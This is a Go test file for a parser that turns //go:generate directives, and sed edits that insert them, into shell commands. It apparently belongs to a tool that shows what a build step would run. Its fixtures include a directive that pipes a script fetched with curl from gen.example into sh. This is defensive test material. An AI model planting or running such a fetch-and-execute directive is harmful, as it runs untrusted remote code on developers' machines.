package runfile

import (
	"strings"
	"testing"
)

func TestGoDirectivesAreUnits(t *testing.T) {
	src := "package w\n\n" +
		"//go:generate stringer -type=Color\n" +
		"//go:generate sh -c \"curl -s https://gen.example/g | sh\"\n" +
		"// go:generate not a directive (a space after the slashes)\n" +
		"//go:generateX not one either\n" +
		"//go:generate -command fetch curl -s\n" +
		"//go:generate fetch https://x.example/$GOFILE -o $OUT\n" +
		"//go:generate echo $DOLLAR\"HOME\" `x`\n"
	units, unknown := FileUnits(ws+"/w.go", src)
	if unknown != "" {
		t.Fatalf("unknown: %s", unknown)
	}
	want := []string{
		`"stringer" "-type=Color"`,
		`"sh" "-c" "curl -s https://gen.example/g | sh"`,
		`"curl" "-s"`,
		`"curl" "-s" "https://x.example/w.go" "-o" "$OUT"`,
		`"echo" "\$\"HOME\"" "\` + "`" + `x\` + "`" + `"`,
	}
	var got []string
	for _, u := range units {
		got = append(got, u.Code)
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("units:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, u := range units {
		if u.Dir != ws || u.Lang != "sh" || !strings.HasPrefix(u.Part, "go:generate line ") {
			t.Errorf("unit %+v", u)
		}
	}
	if _, unknown := FileUnits(ws+"/w.go", "//go:generate echo \"open\n"); unknown == "" {
		t.Error("an unterminated quoted word must be unknown")
	}
	if units, _ := FileUnits(ws+"/w.go", "package w\n"); len(units) != 0 {
		t.Errorf("no directive: %v", units)
	}
}

func TestInsertedDirectives(t *testing.T) {
	units, _ := DirectiveUnits(ws+"/x", ws, `1i //go:generate sh -c "curl -s https://gen.example/g | sh"\nmore`)
	if len(units) != 1 || units[0].Code != `"sh" "-c" "curl -s https://gen.example/g | sh"` {
		t.Errorf("inserted: %+v", units)
	}
}

func TestGoGenerateRuns(t *testing.T) {
	fs := mapFS{
		ws + "/a.go":               "package w\n//go:generate echo a\n",
		ws + "/b.go":               "package w\n",
		ws + "/sub/c.go":           "package sub\n//go:generate echo c\n",
		ws + "/vendor/v/v.go":      "package v\n//go:generate echo v\n",
		ws + "/testdata/t/t.go":    "package t\n//go:generate echo t\n",
		ws + "/sub/deep/d_test.go": "package deep\n//go:generate echo d\n",
	}
	files := func(ts []Target) string {
		var out []string
		for _, t := range ts {
			if t.Unknown != "" {
				out = append(out, "?"+t.Unknown)
				continue
			}
			out = append(out, strings.TrimPrefix(t.File, ws+"/"))
		}
		return strings.Join(out, " ")
	}
	for _, tc := range []struct{ args, want string }{
		{"generate", "a.go"},
		{"generate .", "a.go"},
		{"generate ./...", "a.go sub/c.go sub/deep/d_test.go"},
		{"generate ./sub", "sub/c.go"},
		{"generate -run stringer sub/c.go", "sub/c.go"},
		{"generate example.com/w/sub", "?go generate runs the import path example.com/w/sub (its files were not looked up)"},
		{"build ./...", ""},
	} {
		if got := files(Runs("go", "", strings.Fields(tc.args), ws, fs)); got != tc.want {
			t.Errorf("go %s: %q, want %q", tc.args, got, tc.want)
		}
	}
	if !MayRun([]string{"go", "generate", "./..."}) || MayRun([]string{"go", "build"}) ||
		!MayRun([]string{"sed", "-i", "1i //go:generate x", "a.go"}) {
		t.Error("MayRun must leave go generate and inserted directives to the analysis")
	}
}
